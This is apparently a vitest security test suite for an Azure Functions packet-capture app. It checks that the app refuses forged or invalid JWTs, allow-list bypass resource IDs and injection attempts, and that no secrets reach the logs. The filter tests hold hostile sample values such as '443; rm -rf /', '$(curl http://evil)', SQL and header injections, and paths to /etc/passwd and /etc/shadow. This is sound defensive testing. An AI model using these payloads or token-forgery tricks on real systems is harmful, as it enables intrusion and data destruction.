/**
 * Security over HTTP against the unchanged app on the dev host, secure webhook on and the
 * allow-list narrowed to one resource group: keys, tokens, allow-list bypass attempts and filter
 * injections are all refused, none starts a run or reaches Network Watcher, and no key or token
 * shows up in any log line.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { sampleAlert } from '../e2e/support/alerts';
import { CampaignHost } from './support/campaignHost';
import { AUDIENCE, EntraStandIn, ROLE, TENANT } from './support/entraStandIn';
import { writeFigures } from './support/figures';
import { LogCapture } from './support/logCapture';
import { findSecrets } from './support/secrets';

const logs = new LogCapture();
const entra = new EntraStandIn();
let app: CampaignHost;
const vm = new Map<string, string>();
/** Every bearer token sent, to scan the logs for them at the end. */
const tokensSent = new Set<string>();
/** Every refusal: what was tried and what the app answered. */
const refusals: { what: string; status: number; code: unknown }[] = [];

beforeAll(async () => {
  logs.start();
  await entra.start();
  app = await CampaignHost.start({
    label: 'reliability-security',
    settings: (stack) => ({
      ALLOWED_SCOPES: `/subscriptions/${stack.subscriptionId}/resourceGroups/rg-web`,
      SECURE_WEBHOOK_TENANT_ID: TENANT,
      SECURE_WEBHOOK_AUDIENCE: AUDIENCE,
      SECURE_WEBHOOK_ROLE: ROLE,
      SECURE_WEBHOOK_JWKS_URL: entra.jwksUrl,
      CAPTURE_TIME_LIMIT_SECONDS: '60',
    }),
    log: logs.sink,
  });
  for (const name of ['vm-web-01', 'vm-db-01', 'vm-sandbox-01']) vm.set(name, app.stack.vmId(name));
  // A neighbour whose group name starts like the allowed one.
  const [prefixGroup] = await app.stack.admin.upsertVms([
    { name: 'vm-evil', resourceGroup: 'rg-web-evil', location: 'westeurope', privateIps: ['10.30.0.4'] },
  ]);
  vm.set('prefix group', prefixGroup!.id);
}, 60_000);

afterAll(async () => {
  logs.stop();
  await app?.stop();
  await entra.stop();
}, 60_000);

interface Answer {
  status: number;
  body: Record<string, unknown>;
  contentType: string | null;
}

async function call(
  method: string,
  path: string,
  options: { key?: string | null; authorization?: string | null; body?: unknown; query?: string } = {},
): Promise<Answer> {
  const headers: Record<string, string> = { 'content-type': 'application/json' };
  const key = options.key === undefined ? app.host.functionKey : options.key;
  if (key !== null) headers['x-functions-key'] = key;
  if (options.authorization) {
    headers.authorization = options.authorization;
    tokensSent.add(options.authorization);
  }
  const response = await fetch(`${app.host.url}${path}${options.query ?? ''}`, {
    method,
    headers,
    body: options.body === undefined ? undefined : JSON.stringify(options.body),
  });
  const text = await response.text();
  let body: Record<string, unknown> = {};
  try {
    body = text ? (JSON.parse(text) as Record<string, unknown>) : {};
  } catch {
    body = { text };
  }
  return { status: response.status, body, contentType: response.headers.get('content-type') };
}

const alertFor = (vmId: string, sample: Parameters<typeof sampleAlert>[0] = 'network-out-fired') =>
  sampleAlert(sample, { vmId, storageAccountId: app.stack.storageAccountId, timeLimitSeconds: 60 });

/** A common-schema alert for the allowed VM with its target id replaced by any text, valid or not. */
function aimedAt(id: string): unknown {
  const allowedId = vm.get('vm-web-01')!.toLowerCase();
  const swap = (value: unknown): unknown => {
    if (typeof value === 'string') return value.toLowerCase() === allowedId ? id : value;
    if (Array.isArray(value)) return value.map(swap);
    if (typeof value === 'object' && value !== null) {
      return Object.fromEntries(Object.entries(value).map(([k, v]) => [k, swap(v)]));
    }
    return value;
  };
  return swap(alertFor(vm.get('vm-web-01')!));
}

async function postAlert(body: unknown, authorization?: string | null): Promise<Answer> {
  return call('POST', '/api/alerts', {
    body,
    authorization: authorization === undefined ? `Bearer ${await entra.token()}` : authorization,
  });
}

/** A refusal: the expected 4xx problem, and still no run and no capture request anywhere. */
async function expectRefused(answer: Answer, status: number | number[], label: string): Promise<void> {
  refusals.push({ what: label, status: answer.status, code: answer.body.code });
  const statuses = Array.isArray(status) ? status : [status];
  expect(statuses, `${label}: ${answer.status} ${JSON.stringify(answer.body)}`).toContain(answer.status);
  expect(answer.contentType, label).toBe('application/problem+json');
  expect(await captureRequestsSeen(), label).toBe(0);
}

/** Orchestrations other than the control run, and packet capture creates the emulator answered. */
let controlRunId = '';
async function captureRequestsSeen(): Promise<number> {
  const runs = app.host.engine.listInstances().filter((s) => s.instanceId !== controlRunId);
  const creates = (await app.stack.admin.requests()).counts.create?.requests ?? 0;
  const controlCreates = controlRunId ? 1 : 0;
  return runs.length + Math.max(0, creates - controlCreates);
}

describe('function keys', () => {
  it.each([
    ['POST', '/api/alerts'],
    ['GET', '/api/captures'],
    ['GET', '/api/captures/capture-vm-web-01-0123456789abcdef'],
    ['POST', '/api/captures/capture-vm-web-01-0123456789abcdef/stop'],
    ['GET', '/api/captures/capture-vm-web-01-0123456789abcdef/download'],
  ])('%s %s: no key, a wrong key or the Durable system key → 401', async (method, path) => {
    const body = method === 'POST' ? alertFor(vm.get('vm-web-01')!) : undefined;
    const bearer = `Bearer ${await entra.token()}`;
    for (const key of [
      null,
      'wrong-key',
      app.host.functionKey.toUpperCase(),
      ` ${app.host.functionKey}x`,
      app.host.systemKey,
    ]) {
      const answer = await call(method, path, { key, body, authorization: bearer });
      expect(answer.status, `key ${key === null ? '(none)' : 'wrong'}`).toBe(401);
    }
    const inQuery = await call(method, path, {
      key: null,
      body,
      authorization: bearer,
      query: '?code=wrong',
    });
    expect(inQuery.status).toBe(401);
    expect(await captureRequestsSeen()).toBe(0);
  });

  it('keeps the Durable management API closed to the function key and to callers without a key', async () => {
    for (const key of [null, app.host.functionKey]) {
      const answer = await call('GET', '/runtime/webhooks/durabletask/instances', { key });
      expect(answer.status).toBe(401);
    }
  });
});

describe('secure webhook tokens', () => {
  const refusedTokens: [string, () => Promise<string | null>][] = [
    ['no Authorization header', async () => null],
    ['Basic credentials', async () => 'Basic dXNlcjpwYXNz'],
    ['an empty bearer', async () => 'Bearer '],
    [
      'the wrong audience',
      async () => `Bearer ${await entra.token({ claims: { aud: 'api://another-app' } })}`,
    ],
    [
      'audiences without ours',
      async () => `Bearer ${await entra.token({ claims: { aud: ['api://x', 'api://y'] } })}`,
    ],
    [
      'another tenant as issuer',
      async () =>
        `Bearer ${await entra.token({ claims: { iss: 'https://sts.windows.net/33333333-3333-3333-3333-333333333333/' } })}`,
    ],
    [
      'an issuer of no tenant',
      async () => `Bearer ${await entra.token({ claims: { iss: 'https://evil.example.com/' } })}`,
    ],
    [
      'another tenant in tid',
      async () => `Bearer ${await entra.token({ claims: { tid: '33333333-3333-3333-3333-333333333333' } })}`,
    ],
    [
      'another caller app',
      async () =>
        `Bearer ${await entra.token({ claims: { appid: '11111111-1111-1111-1111-111111111111' } })}`,
    ],
    ['no caller app', async () => `Bearer ${await entra.token({ without: ['appid'] })}`],
    ['the wrong role', async () => `Bearer ${await entra.token({ claims: { roles: ['Reader'] } })}`],
    ['no roles', async () => `Bearer ${await entra.token({ without: ['roles'] })}`],
    [
      'the role as a string, not a list',
      async () => `Bearer ${await entra.token({ claims: { roles: ROLE } })}`,
    ],
    ['a token expired 10 minutes ago', async () => `Bearer ${await entra.token({ expiresIn: -600 })}`],
    ['a token valid only in 10 minutes', async () => `Bearer ${await entra.token({ notBeforeIn: 600 })}`],
    ['a token without expiry', async () => `Bearer ${await entra.token({ without: ['exp'] })}`],
    ['alg none', async () => `Bearer ${entra.unsigned()}`],
    ['HS256 keyed with the public key', async () => `Bearer ${await entra.confusedAlgorithm()}`],
    ['a key that is not published', async () => `Bearer ${await entra.token({ unpublishedKey: true })}`],
    ['an unknown key id', async () => `Bearer ${await entra.token({ kid: 'rotated-away' })}`],
    ['a payload changed after signing', async () => `Bearer ${await entra.tampered()}`],
    ['two tokens', async () => `Bearer ${await entra.token()}, Bearer ${await entra.token()}`],
    ['a 15 KB token', async () => `Bearer ${'a'.repeat(15_000)}.b.c`],
  ];

  it('refuses a token too large for any header with 431 before the app sees it', async () => {
    const answer = await postAlert(alertFor(vm.get('vm-web-01')!), `Bearer ${'a'.repeat(20_000)}.b.c`);
    expect(answer.status).toBe(431);
    expect(await captureRequestsSeen()).toBe(0);
  });

  it.each(refusedTokens)('refuses %s with 401 and starts nothing', async (_what, authorization) => {
    const answer = await postAlert(alertFor(vm.get('vm-web-01')!), await authorization());
    await expectRefused(answer, 401, _what);
    expect(['AUTH_TOKEN_MISSING', 'AUTH_TOKEN_INVALID']).toContain(answer.body.code);
  });

  it("accepts Azure Monitor's token with the role (the control that the refusals are not noise)", async () => {
    const answer = await postAlert(alertFor(vm.get('vm-web-01')!));
    expect(answer.status, JSON.stringify(answer.body)).toBe(202);
    controlRunId = String(answer.body.id);
    await expect
      .poll(async () => (await app.stack.admin.requests()).counts.create?.requests ?? 0, { timeout: 10_000 })
      .toBe(1);
  });
});

describe('allow-list bypass attempts (allowed: one resource group)', () => {
  const sub = () => app.stack.subscriptionId;
  const outside = () => app.stack.outsideSubscriptionId;
  const allowed = () => vm.get('vm-web-01')!;
  const attempts: [string, () => string, number | number[]][] = [
    ['a VM of another subscription', () => vm.get('vm-sandbox-01')!, 403],
    ['a VM of another resource group', () => vm.get('vm-db-01')!, 403],
    ['a group whose name starts with the allowed one', () => vm.get('prefix group')!, 403],
    [
      'a group named with a look-alike Cyrillic letter',
      () => allowed().replace('rg-web', 'rg-w\u0435b'),
      [400, 403],
    ],
    ['the other subscription in upper case', () => vm.get('vm-sandbox-01')!.toUpperCase(), 403],
    [
      'a parent segment into another group',
      () => allowed().replace('/rg-web/', '/rg-web/../rg-data/'),
      [400, 422],
    ],
    ['a dot segment', () => allowed().replace('/providers/', '/./providers/'), [400, 422]],
    ['an encoded slash', () => allowed().replace('/rg-web/', '/rg-web%2F..%2Frg-data/'), [400, 422]],
    [
      'a double-encoded slash',
      () => allowed().replace('/rg-web/', '/rg-web%252F..%252Frg-data/'),
      [400, 422],
    ],
    ['backslash separators', () => allowed().replace(/\//g, '\\'), [400, 422]],
    ['an empty segment', () => allowed().replace('/resourceGroups/', '//resourceGroups/'), [400, 422]],
    ['a subscription id with a suffix', () => allowed().replace(sub(), `${sub()}0`), [400, 403, 422]],
    ['a fullwidth group name', () => allowed().replace('rg-web', 'ｒｇ-ｗｅｂ'), [400, 403]],
    ['a zero-width character in the group', () => allowed().replace('rg-web', 'rg-\u200bweb'), [400, 403]],
    ['a query string', () => `${allowed()}?x=/subscriptions/${outside()}`, [400, 422]],
    [
      'a scale set instead of a VM',
      () => allowed().replace('virtualMachines', 'virtualMachineScaleSets'),
      422,
    ],
  ];

  it.each(attempts)('refuses %s', async (what, id, status) => {
    await expectRefused(await postAlert(aimedAt(id())), status, what);
  });

  it('refuses an alert naming the allowed VM and one outside it (ambiguous), in every id location', async () => {
    const common = alertFor(allowed()) as { data: { essentials: { alertTargetIDs: string[] } } };
    common.data.essentials.alertTargetIDs.push(vm.get('vm-sandbox-01')!.toLowerCase());
    await expectRefused(await postAlert(common), 422, 'two targets');
    const metric = alertFor(allowed(), 'metric-alert-v2') as { data: { context: Record<string, unknown> } };
    metric.data.context.condition = {
      allOf: [{ dimensions: [{ name: 'microsoft.resourceId', value: vm.get('vm-db-01') }] }],
    };
    await expectRefused(await postAlert(metric), [403, 422], 'dimension outside');
  });

  it('refuses a direct request pinning storage, subscription or watcher outside the allow-list', async () => {
    const storageOutside = `/subscriptions/${outside()}/resourceGroups/rg-x/providers/Microsoft.Storage/storageAccounts/stexfil`;
    const pins: [string, Record<string, unknown>][] = [
      ['storage of another subscription', { storageID: storageOutside }],
      ['another subscriptionId', { subscriptionId: outside() }],
      [
        'a watcher of another subscription',
        {
          networkWatcherResourceGroup: 'NetworkWatcherRG',
          networkWatcherName: 'NetworkWatcher_westeurope',
          subscriptionId: outside(),
        },
      ],
    ];
    for (const [what, pin] of pins) {
      const body = { ...alertFor(allowed(), 'direct-request'), ...pin };
      await expectRefused(await postAlert(body), [400, 403], what);
    }
  });
});

describe('filter values with injection attempts', () => {
  const injections: Record<string, string>[] = [
    { protocol: 'TCP', remotePort: '443; rm -rf /' },
    { protocol: 'TCP', remotePort: '443 && reboot' },
    { protocol: 'TCP', remotePort: '$(curl http://evil)' },
    { protocol: 'TCP', remotePort: '`id`' },
    { protocol: 'TCP', localIPAddress: "10.1.0.4' OR '1'='1" },
    { protocol: 'TCP', localIPAddress: '10.1.0.4\nX-Injected: 1' },
    { protocol: 'TCP', remoteIPAddress: '10.0.0.0/8' },
    { protocol: 'TCP', remoteIPAddress: '10.0.0.1:22' },
    { protocol: 'TCP', remoteIPAddress: '../../etc/passwd' },
    { protocol: 'TCP;UDP' },
    { protocol: 'ICMP' },
    { protocol: 'TCP', remotePort: '80-85-90' },
    { protocol: 'TCP', remotePort: '80;443-445' },
    { protocol: 'TCP', remotePort: '65536' },
    { protocol: 'TCP', remotePort: '-1' },
    { protocol: 'TCP', filePath: '/etc/shadow' },
  ];

  it.each(injections)('refuses %o in custom properties and in a direct request', async (filter) => {
    const common = alertFor(vm.get('vm-web-01')!) as { data: { customProperties: Record<string, string> } };
    common.data.customProperties.captureFilters = JSON.stringify([filter]);
    await expectRefused(await postAlert(common), 400, JSON.stringify(filter));
    const direct = { ...alertFor(vm.get('vm-web-01')!, 'direct-request'), filters: [filter] };
    await expectRefused(await postAlert(direct), 400, `direct ${JSON.stringify(filter)}`);
  });
});

describe('the logs of all of the above', () => {
  it('hold no key and no token', () => {
    expect(logs.lines.length).toBeGreaterThan(50);
    const findings = findSecrets(logs.lines, [
      { name: 'function key', value: app.host.functionKey },
      { name: 'master key', value: app.host.masterKey },
      { name: 'system key', value: app.host.systemKey },
      ...[...tokensSent]
        .map((header) => header.split('.')[2] ?? '')
        .filter((signature) => signature.length >= 8)
        .map((value) => ({ name: 'bearer token signature', value })),
    ]);
    logs.stop();
    writeFigures('security', { refusals, tokensTried: tokensSent.size, secretsInLogs: findings.length });
    expect(refusals.length).toBeGreaterThan(60);
    expect(findings).toEqual([]);
  });
});
